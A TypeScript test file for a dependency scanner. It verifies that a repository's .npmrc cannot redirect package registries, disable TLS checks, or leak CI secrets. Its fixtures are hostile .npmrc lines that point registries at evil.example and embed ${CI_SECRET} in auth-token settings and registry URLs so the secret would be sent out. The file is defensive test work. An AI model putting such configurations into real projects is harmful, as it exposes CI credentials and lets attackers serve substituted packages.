import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeForFindings } from '../../src/cli/exit-codes.js';
import { depsStage } from '../../src/deps/stage.js';
import { scanWith } from '../helpers/scan.js';
import { scanGraphs, tempDir, writeLockfile } from './scan.js';
import { NPM_KEYS, SIGNED_VERSIONS, endpointsPerTest } from './scan.js';

const KEYS = NPM_KEYS;
const SIGNED = SIGNED_VERSIONS;

const startServer = endpointsPerTest();

describe('the scanned tree is untrusted configuration: a repository .npmrc never widens trust', () => {
  const s = SIGNED[0]!;
  const cases = [
    { name: 'registry elsewhere', npmrc: 'registry=https://evil.example/npm/\n', want: ['CPD005', 'CPD134'] },
    {
      name: 'scope registry elsewhere',
      npmrc: '@evil:registry=https://evil.example/npm/\n',
      want: ['CPD005', 'CPD134'],
    },
    {
      name: 'own CA and TLS off',
      npmrc: 'registry=https://evil.example/npm/\ncafile=./evil-ca.pem\nstrict-ssl=false\n',
      want: ['CPD005', 'CPD134', 'CPD135'],
    },
  ];
  it.each(cases)('PR .npmrc with $name + lockfile pointing there → $want, exit 1', async ({ npmrc, want }) => {
    const root = tempDir();
    writeFileSync(path.join(root, '.npmrc'), npmrc);
    writeLockfile(root, [
      {
        name: s.name,
        version: s.version,
        integrity: s.integrity,
        resolved: `https://evil.example/npm/${s.name}/-/${s.name}-${s.version}.tgz`,
      },
    ]);
    const result = await scanWith(root, [depsStage]);
    expect([...new Set(result.findings.map((f) => f.ruleId))].sort()).toEqual(want);
    const npmrcFindings = result.findings.filter((f) => f.location.path === '.npmrc');
    expect(npmrcFindings.every((f) => f.level === 'error' && f.location.line !== undefined)).toBe(true);
    expect(exitCodeForFindings(result, 'error')).toBe(1);
  });

  it('online: the scanner never asks, nor sends a token to, a registry only the repository .npmrc names', async () => {
    const allowed = await startServer({
      keys: KEYS,
      packages: [{ name: s.name, versions: [{ ...s, time: '2022-06-01T00:00:00.000Z', signatures: [s] }] }],
    });
    const evil = await startServer({ keys: KEYS, packages: [] });
    const root = tempDir();
    const host = new URL(evil.url).host;
    writeFileSync(
      path.join(root, '.npmrc'),
      `registry=${evil.url}\n//${host}/:_authToken=\${CI_SECRET}\ncafile=./ca.pem\n`,
    );
    const graph = writeLockfile(root, [{ name: s.name, version: s.version, integrity: s.integrity }]);
    const result = await scanGraphs({
      root,
      graphs: [graph],
      registry: allowed.url,
      env: { CI_SECRET: 'npm_PLANTEDsecret0123' },
    });
    expect(evil.requests).toEqual([]);
    expect(allowed.requests.every((r) => r.authorization === undefined)).toBe(true);
    expect(result.summary.verified).toBe(1);
    expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
  });

  it('a repository registry that pulls a runner secret into an allowed host’s path: refused, shown as written', async () => {
    const root = tempDir();
    writeFileSync(
      path.join(root, '.npmrc'),
      'registry=https://registry.npmjs.org/${CI_SECRET}/\n@acme:registry=https://evil.example/${CI_SECRET}/\n',
    );
    writeLockfile(root, [{ name: s.name, version: s.version, integrity: s.integrity }]);
    const result = await scanWith(root, [depsStage], { options: { env: { CI_SECRET: 'npm_PLANTEDsecret0123' } } });
    const refused = result.findings.filter((f) => f.ruleId === 'CPD134').map((f) => f.evidence?.['value']);
    expect(refused).toEqual(['https://registry.npmjs.org/${CI_SECRET}/', 'https://evil.example/${CI_SECRET}/']);
    expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
  });

  it('online: a ${VAR} registry under the allowed one is never asked, so the secret is sent nowhere', async () => {
    const allowed = await startServer({
      keys: KEYS,
      packages: [{ name: s.name, versions: [{ ...s, time: '2022-06-01T00:00:00.000Z', signatures: [s] }] }],
    });
    const root = tempDir();
    writeFileSync(path.join(root, '.npmrc'), `registry=${allowed.url}\${CI_SECRET}/\n`);
    // The user's own ~/.npmrc (outside the tree) names the allowed registry; the tree tries to go under it.
    const userrc = path.join(tempDir(), '.npmrc');
    writeFileSync(userrc, `registry=${allowed.url}\n`);
    const graph = writeLockfile(root, [{ name: s.name, version: s.version, integrity: s.integrity }]);
    const result = await scanGraphs({
      root,
      graphs: [graph],
      policy: { allowedRegistries: [allowed.url] },
      env: { CI_SECRET: 'npm_PLANTEDsecret0123', npm_config_userconfig: userrc },
    });
    expect(allowed.requests.length).toBeGreaterThan(0);
    expect(JSON.stringify(allowed.requests)).not.toContain('npm_PLANTEDsecret0123');
    expect(result.summary.verified).toBe(1);
    expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
  });
});
